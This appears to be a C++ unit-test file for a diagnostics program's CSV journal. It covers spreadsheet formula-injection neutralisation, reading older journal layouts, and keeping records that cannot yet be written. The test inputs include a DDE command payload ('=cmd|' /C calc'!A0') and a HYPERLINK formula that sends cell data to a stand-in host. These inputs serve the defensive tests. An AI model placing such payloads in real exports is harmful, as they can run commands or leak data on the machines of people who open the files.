// The journal's own rules: fields no spreadsheet runs, read back exactly;
// journals in the older layout and saved back by a spreadsheet read and
// appended in their own form; records that cannot be written kept and
// written later, in order.
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "report/csv.h"
#include "report/journal.h"
#include "report/journal_keeper.h"

namespace {

namespace fs = std::filesystem;

std::string ReadAll(const fs::path& path) {
    std::ifstream in(path, std::ios::binary);
    std::stringstream s;
    s << in.rdbuf();
    return s.str();
}

void WriteAll(const fs::path& path, const std::string& bytes) { std::ofstream(path, std::ios::binary) << bytes; }

// A folder of the test's own, the user's folders inside it.
class JournalFolder : public ::testing::Test {
protected:
    void SetUp() override {
        root = fs::temp_directory_path() /
               ("pd_journal_" + std::string(::testing::UnitTest::GetInstance()->current_test_info()->name()));
        fs::remove_all(root);
        fs::create_directories(root / "data");
        for (const char* name : {"XDG_DATA_HOME", "XDG_STATE_HOME"}) saved.emplace_back(name, Get(name));
        setenv("XDG_DATA_HOME", (root / "data").c_str(), 1);
        setenv("XDG_STATE_HOME", (root / "state").c_str(), 1);
        journal = (root / "journal" / "journal.csv").string();
    }
    void TearDown() override {
        for (const auto& [name, value] : saved) {
            if (value.empty()) unsetenv(name.c_str());
            else setenv(name.c_str(), value.c_str(), 1);
        }
        fs::remove_all(root);
    }
    static std::string Get(const char* name) { return std::getenv(name) ? std::getenv(name) : ""; }

    static report::JournalEntry Entry(const std::string& time, const std::string& serial) {
        report::JournalEntry e;
        e.Field("time") = time;
        e.Field("event") = "fault read";
        e.Field("port") = "SIM";
        e.Field("serial_number") = serial;
        e.Field("faults") = "53:2";
        e.Field("erased") = "no";
        return e;
    }

    fs::path root;
    std::string journal;
    std::vector<std::pair<std::string, std::string>> saved;
};

TEST(Csv, FieldsThatStartAFormulaAreNeutralisedAndReadBackAsSent) {
    struct Row {
        std::string field, written;
    } rows[] = {
        {"=2+5", "'=2+5"},
        {"+1+1", "'+1+1"},
        {"-1", "'-1"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\tTAB", "'\tTAB"},
        {"\rCR", "\"'\rCR\""},
        {"=HYPERLINK(\"http://x/?d=\"&A1,\"details\")", "\"'=HYPERLINK(\"\"http://x/?d=\"\"&A1,\"\"details\"\")\""},
        {"'own apostrophe", "''own apostrophe"},  // comes back with its apostrophe
        {"''", "'''"},
        {"1,5", "\"1,5\""},  // a spreadsheet that splits on commas keeps the column
        {"a=b", "a=b"},
        {"0 470 506 917", "0 470 506 917"},
        {"", ""},
    };
    for (const Row& row : rows) {
        SCOPED_TRACE(row.field);
        EXPECT_EQ(report::CsvLine({row.field, "x"}), row.written + ";x\r\n");
        const std::vector<report::CsvRow> back = report::ParseCsv(report::CsvLine({row.field, "x"}));
        ASSERT_EQ(back.size(), 1u);
        EXPECT_EQ(back[0].fields, (std::vector<std::string>{row.field, "x"}));
        EXPECT_EQ(report::ParseCsv(report::CsvLine({"x", row.field}, ','))[0].fields[1], row.field);
    }
}

TEST(Csv, ARowLongerThanAnyRecordIsCutAndTheNextOneReadWhole) {
    // A quote that never closes would take the rest of the file into one field.
    const std::string text = "a;\"" + std::string(report::CsvReader::kMostRowBytes, 'x') + "\r\nb;c\r\n";
    const std::vector<report::CsvRow> rows = report::ParseCsv(text);
    ASSERT_EQ(rows.size(), 2u);
    EXPECT_FALSE(rows[0].complete);
    EXPECT_EQ(rows[1].fields, (std::vector<std::string>{"b", "c"}));
}

TEST_F(JournalFolder, EveryHostileFieldComesBackExactly) {
    report::Diagnosis d;
    d.port = "=cmd|' /C calc'!A0";
    d.identification = {"0 470 506 917", "+1+1", "'quoted", "-VR1708512 3470\xE2\x81\xA0"};
    d.version = "@version";
    d.faults.done = true;
    d.faults.faults = {{0x53, 2, ""}};
    report::LocalTime t;
    t.year = 2026, t.month = 12, t.day = 8, t.hour = 9, t.minute = 5, t.second = 3, t.offsetMinutes = 180;
    const report::JournalEntry written = report::JournalRecord(report::JournalEvent::FaultRead, d, t);
    ASSERT_FALSE(report::AppendJournalEntries(journal, {written}).Failed());
    const std::vector<report::JournalEntry> back = report::ReadJournal(journal);
    ASSERT_EQ(back.size(), 1u);
    EXPECT_EQ(back[0].fields, written.fields);
    EXPECT_EQ(back[0].Field("time"), "2026-12-08T09:05:03+03:00");
    const std::string raw = ReadAll(journal);
    EXPECT_NE(raw.find("2026-12-08;09:05:03;UTC+03:00;fault read;'=cmd|' /C calc'!A0\xE2\x81\xA0;"),
              std::string::npos)
        << raw;
    for (const char* hostile : {";=", ";+", ";-", ";@"}) EXPECT_EQ(raw.find(hostile), std::string::npos) << hostile;
}

TEST_F(JournalFolder, OlderAndSpreadsheetSavedJournalsAreReadAndAppendedInTheirOwnForm) {
    struct Row {
        const char* name;
        std::string text;
        std::string appendedLine;  // the line appended, as the file's own form has it
    } rows[] = {
        {"older layout, as the program wrote it",
         "\xEF\xBB\xBFtime;event;port;bosch_number;id_number;original_number;serial_number;faults;erased;version\r\n"
         "2026-12-07T19:26:11+00:00;fault read;SIM;0 470 506 917;PU4471    0218;4B1907401S;VR1708512 3470;53:2;"
         "no;0.1.0\r\n",
         "2026-12-09T10:00:00+03:00;fault read;SIM\xE2\x81\xA0;;;;VR2000001 1111\xE2\x81\xA0;53:2\xE2\x81\xA0;no;\r\n"},
        {"older layout saved back with commas, no mark, LF",
         "time,event,port,bosch_number,id_number,original_number,serial_number,faults,erased,version\n"
         "2026-12-07T19:26:11+00:00,fault read,SIM,0 470 506 917,PU4471    0218,4B1907401S,VR1708512 3470,53:2,"
         "no,0.1.0\n",
         "2026-12-09T10:00:00+03:00,fault read,SIM\xE2\x81\xA0,,,,VR2000001 1111\xE2\x81\xA0,53:2\xE2\x81\xA0,no,\n"},
        {"current layout saved back with commas and Russian dates, a column added",
         "date,time_of_day,zone,event,port,bosch_number,id_number,original_number,serial_number,faults,erased,"
         "version,note\r\n"
         "07.12.2026,19:26:11,UTC+00:00,fault read,SIM,0 470 506 917,PU4471    0218,4B1907401S,VR1708512 3470,53:2,"
         "no,0.1.0,checked\r\n",
         "2026-12-09,10:00:00,UTC+03:00,fault read,SIM\xE2\x81\xA0,,,,VR2000001 1111\xE2\x81\xA0,53:2\xE2\x81\xA0,no,,"
         "\r\n"},
    };
    for (const Row& row : rows) {
        SCOPED_TRACE(row.name);
        fs::create_directories(fs::path(journal).parent_path());
        WriteAll(journal, row.text);
        std::vector<report::JournalEntry> read = report::ReadJournal(journal);
        ASSERT_EQ(read.size(), 1u);
        EXPECT_FALSE(read[0].cut);
        EXPECT_EQ(read[0].Field("time"), "2026-12-07T19:26:11+00:00");
        EXPECT_TRUE(report::SerialMatches(read[0], "VR1708512"));
        EXPECT_TRUE(report::SinceMatches(read[0], "2026-12-07"));
        EXPECT_EQ(read[0].Field("id_number"), "PU4471    0218");

        ASSERT_FALSE(report::AppendJournalEntries(journal, {Entry("2026-12-09T10:00:00+03:00", "VR2000001 1111")})
                         .Failed());
        EXPECT_EQ(ReadAll(journal), row.text + row.appendedLine);
        read = report::ReadJournal(journal);
        ASSERT_EQ(read.size(), 2u);
        EXPECT_FALSE(read[1].cut);
        EXPECT_TRUE(report::SerialMatches(read[1], "VR2000001"));
        EXPECT_EQ(read[1].Field("time"), "2026-12-09T10:00:00+03:00");
    }
}

TEST_F(JournalFolder, AFileThatIsNoJournalIsLeftAlone) {
    fs::create_directories(fs::path(journal).parent_path());
    WriteAll(journal, "name;value\r\nx;1\r\n");
    const report::WriteFailure failure =
        report::AppendJournalEntries(journal, {Entry("2026-12-09T10:00:00+03:00", "VR2000001 1111")});
    EXPECT_EQ(failure.fault, report::WriteFault::Other);
    EXPECT_EQ(ReadAll(journal), "name;value\r\nx;1\r\n");
}

// Records that cannot be written are kept, and written in order once the
// journal can be written again. The blocks hold for root too.
TEST_F(JournalFolder, KeptRecordsAreWrittenInOrderOnceTheJournalCanBeWritten) {
    struct Row {
        const char* name;
        std::function<void(const fs::path& journal)> block, unblock;
        const char* keptIn;  // where the pending file is looked for, "" for memory
    } rows[] = {
        {"the journal's name is a folder", [](const fs::path& j) { fs::create_directories(j); },
         [](const fs::path& j) { fs::remove(j); }, "journal/journal.csv.pending"},
        {"the journal's folder is a file",
         [](const fs::path& j) { WriteAll(j.parent_path(), ""); },
         [](const fs::path& j) { fs::remove(j.parent_path()); }, "data/pumpdiag/"},
        {"no folder can be written",
         [this](const fs::path& j) {
             for (const char* f : {"data", "state"}) fs::remove_all(root / f), WriteAll(root / f, "");
             WriteAll(j.parent_path(), "");
         },
         [this](const fs::path& j) {
             for (const char* f : {"data", "state"}) fs::remove(root / f);
             fs::remove(j.parent_path());
         },
         ""},
    };
    for (const Row& row : rows) {
        SCOPED_TRACE(row.name);
        fs::remove_all(fs::path(journal).parent_path());
        report::JournalKeeper keeper(journal);
        row.block(journal);
        const report::JournalKeeper::Outcome first = keeper.Record(Entry("2026-12-08T10:00:01+03:00", "B"));
        EXPECT_NE(first.problem.find(journal), std::string::npos) << first.problem;
        EXPECT_NE(first.problem.find(row.keptIn[0] ? "kept in " : "kept in memory"), std::string::npos)
            << first.problem;
        EXPECT_TRUE(keeper.Behind());
        EXPECT_TRUE(keeper.Record(Entry("2026-12-08T10:00:02+03:00", "C")).problem.empty()) << "one box a streak";
        if (row.keptIn[0]) EXPECT_NE(first.problem.find((root / row.keptIn).string()), std::string::npos);
        row.unblock(journal);
        const report::JournalKeeper::Outcome again = keeper.Record(Entry("2026-12-08T10:00:03+03:00", "D"));
        EXPECT_TRUE(again.problem.empty());
        EXPECT_NE(again.written.find("(2)"), std::string::npos) << again.written;
        EXPECT_FALSE(keeper.Behind());
        std::string serials;
        for (const report::JournalEntry& e : report::ReadJournal(journal)) serials += e.Field("serial_number");
        EXPECT_EQ(serials, "BCD");
        // Nothing is written twice.
        EXPECT_TRUE(keeper.Record(Entry("2026-12-08T10:00:04+03:00", "E")).written.empty());
    }
}

TEST_F(JournalFolder, RecordsKeptByAnEarlierRunGoInBeforeTheNewOne) {
    {
        report::JournalKeeper earlier(journal);
        fs::create_directories(journal);
        earlier.Record(Entry("2026-12-08T10:00:00+03:00", "A"));
        earlier.Record(Entry("2026-12-08T10:00:01+03:00", "B"));
        fs::remove(journal);
    }
    report::JournalKeeper later(journal);
    EXPECT_NE(later.Record(Entry("2026-12-08T10:00:02+03:00", "C")).written.find("(2)"), std::string::npos);
    std::string serials;
    for (const report::JournalEntry& e : report::ReadJournal(journal)) serials += e.Field("serial_number");
    EXPECT_EQ(serials, "ABC");
}

}  // namespace
